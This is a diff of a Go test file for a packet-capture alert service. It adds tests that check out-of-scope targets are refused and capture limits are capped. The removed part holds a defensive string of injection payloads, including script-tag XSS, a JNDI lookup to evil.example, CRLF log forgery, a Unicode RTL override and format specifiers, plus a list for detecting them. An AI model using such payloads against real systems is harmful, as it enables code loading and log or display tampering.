@@ -7,123 +7,13 @@ import (
 	"fmt"
 	"io"
 	"net/http"
-	"os"
-	"path/filepath"
 	"slices"
 	"strings"
-	"sync/atomic"
 	"testing"
 	"time"
 
-	"github.com/pcapwarden/pcapwarden/internal/local/arm"
-	"github.com/pcapwarden/pcapwarden/internal/local/loop"
 	"github.com/pcapwarden/pcapwarden/internal/local/scenario"
 )
-
-// tricks is what people put into names, to have it run, believed or misread
-// where the name is shown: on a page, a terminal, in a log, in a template.
-const tricks = "<script>alert(1)</script>\x1b[31m${jndi:ldap://evil.example/a}\r\nlevel=ERROR forged=1\u202etxt.exe %s%n"
-
-// raw are the parts of tricks that work. None of them may come out anywhere.
-var raw = []string{"<script>", "\x1b", "${jndi:", "\r\nlevel", "\nlevel=ERROR", "\u202e"}
-
-// checkInert looks for tricks in what the app said.
-func checkInert(t *testing.T, where string, text []byte) {
-	t.Helper()
-	for _, trick := range raw {
-		if i := bytes.Index(text, []byte(trick)); i >= 0 {
-			t.Errorf("%s has %q as it is: ...%q...", where, trick, text[max(0, i-100):min(len(text), i+100)])
-		}
-	}
-}
-
-// A stand is a running app that a test attacks.
-type stand struct {
-	*loop.Loop
-	options loop.Options
-	puts    atomic.Int32 // sessions that the local ARM was asked for
-}
-
-func startStand(t *testing.T, o loop.Options) *stand {
-	t.Helper()
-	s := &stand{}
-	o.Fault = func(r *http.Request) *arm.Fault {
-		if r.Method == http.MethodPut {
-			s.puts.Add(1)
-		}
-		return nil
-	}
-	s.Loop, s.options = startLoop(t, o), o
-	return s
-}
-
-// cases are those that the ledger has.
-func (s *stand) cases(t *testing.T) (n int) {
-	t.Helper()
-	for c, err := range s.Ledger.OpenCases(t.Context(), "") {
-		if err != nil {
-			t.Errorf("case %s: %v", c.ID, err)
-		}
-		n++
-	}
-	return n
-}
-
-// checkNothing reports what was started though nothing should be, and what
-// the app's log should not hold.
-func (s *stand) checkNothing(t *testing.T) {
-	t.Helper()
-	if n := s.cases(t); n > 0 {
-		t.Errorf("%d cases were recorded", n)
-	}
-	if n := s.puts.Load(); n > 0 {
-		t.Errorf("%d captures were asked for", n)
-	}
-	s.checkLog(t)
-}
-
-// checkLog reports what never belongs into the log: tricks, and signs that
-// the handler broke rather than refused.
-func (s *stand) checkLog(t *testing.T) {
-	t.Helper()
-	text, err := os.ReadFile(filepath.Join(s.options.Dir, "log.jsonl"))
-	if err != nil {
-		t.Fatal(err)
-	}
-	checkInert(t, "the log", text)
-	for _, sign := range []string{"handler exited", "invocation panicked", "panic:", "goroutine "} {
-		if i := bytes.Index(text, []byte(sign)); i >= 0 {
-			t.Errorf("the log says %q: %s", sign, text[i:min(len(text), i+500)])
-		}
-	}
-}
-
-// post sends a body as somebody might who is no action group.
-func (s *stand) post(t *testing.T, body io.Reader, header http.Header) (status int, answer []byte) {
-	t.Helper()
-	url, ok := s.Host.FunctionURL("startcaptures")
-	if !ok {
-		t.Fatal("the app has no function startcaptures")
-	}
-	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, url, body)
-	if err != nil {
-		t.Fatal(err)
-	}
-	req.Header = http.Header{"Content-Type": {"application/json; charset=utf-8"}}
-	for name, values := range header {
-		req.Header[name] = values
-	}
-	req.Header.Set("X-Functions-Key", s.Host.FunctionKey())
-	res, err := http.DefaultClient.Do(req)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer res.Body.Close()
-	if answer, err = io.ReadAll(res.Body); err != nil {
-		t.Fatal(err)
-	}
-	return res.StatusCode, answer
-}
 
 // alertOf is the scenario's alert with something changed, as an alert of its
 // own.
@@ -366,4 +256,73 @@ func utf16(s []byte) []byte {
 		out = append(out, b, 0)
 	}
 	return out
+}
+
+// TestAlertsThatWantMore fires alerts that start captures, and ask for more
+// than the policy gives.
+func TestAlertsThatWantMore(t *testing.T) {
+	o := localOptions(t, "partner-tls")
+	stand := startStand(t, o)
+	own := o.Scenario.Machines[0].ID
+	foreign := strings.Replace(own, o.Scenario.Subscription, "00000000-1111-2222-3333-444444444444", 1)
+	body := alertOf(t, o.Scenario, func(e, d map[string]any) {
+		// H6: only the target that is foreign is refused. H8: one machine,
+		// however it is written.
+		e["alertTargetIDs"] = []string{own, foreign, strings.ToUpper(own[:20]) + own[20:], strings.ToLower(own), strings.Replace(own, "virtualMachines", "VIRTUALMACHINES", 1)}
+		// H13
+		d["customProperties"] = map[string]any{
+			"pcapProfile": "partner-tls", "incidentId": "INC-4711", "timeLimit": "5h", "totalBytes": "4GiB", "retention": "365d",
+			"filters": []any{map[string]any{"protocol": "Any"}}, "storageAccountId": foreign, "storageId": foreign,
+			"approval": "standing", "instances": 1000, "bytesPerPacket": 0, "compareWith": []string{foreign},
+		}
+	})
+	status, answer := stand.post(t, bytes.NewReader(body), nil)
+	if status != http.StatusAccepted {
+		t.Fatalf("answered %d %s", status, answer)
+	}
+	var a struct {
+		Incident string
+		Captures []struct{ Target, State string }
+		Refused  []struct{ Target, Reason string }
+	}
+	if err := json.Unmarshal(answer, &a); err != nil {
+		t.Fatal(err)
+	}
+	if len(a.Captures) != 1 || len(a.Refused) != 1 || a.Refused[0].Target != foreign || a.Refused[0].Reason != "out-of-scope" {
+		t.Errorf("answered %s; want one capture, and the foreign machine refused", answer)
+	}
+	for c, err := range stand.Ledger.OpenCases(t.Context(), a.Incident) {
+		if err != nil {
+			t.Fatal(err)
+		}
+		if c.TimeLimit != 5*time.Minute || c.TotalBytes != 100<<20 || c.Retention != 7*24*time.Hour || len(c.Filters) != 1 ||
+			c.Filters[0].RemoteIP == "" || !strings.EqualFold(c.StorageID, o.Scenario.Landing.ID) || !strings.EqualFold(c.Target, own) {
+			t.Errorf("the case is not what the policy says: %+v", c)
+		}
+	}
+	if n := stand.puts.Load(); n != 1 {
+		t.Errorf("%d captures were asked for, want 1", n)
+	}
+
+	// F2: a capture that runs serves the next alert, too.
+	status, answer = stand.post(t, bytes.NewReader(alertOf(t, o.Scenario, func(e, _ map[string]any) { e["alertTargetIDs"] = []string{strings.ToUpper(own)} })), nil)
+	if n := stand.puts.Load(); status != http.StatusAccepted || n != 1 {
+		t.Errorf("answered %d %s, and %d captures were asked for, want 1", status, answer, n)
+	}
+	stand.checkLog(t)
+}
+
+// TestUntaggedMachine fires an alert about a machine that nobody released for
+// captures.
+func TestUntaggedMachine(t *testing.T) {
+	o := localOptions(t, "partner-tls")
+	o.Scenario.Machines = slices.Clone(o.Scenario.Machines)
+	o.Scenario.Machines[0].Tags = map[string]string{"owner": tricks}
+	stand := startStand(t, o)
+	status, answer := stand.post(t, bytes.NewReader(o.Scenario.Alert(time.Now().UTC(), time.Time{})), nil)
+	if status >= 500 || !strings.Contains(string(answer), "requireTag") {
+		t.Errorf("H12: answered %d %s; want a word about the tag that is missing", status, answer)
+	}
+	checkInert(t, "the answer", answer)
+	stand.checkNothing(t)
 }
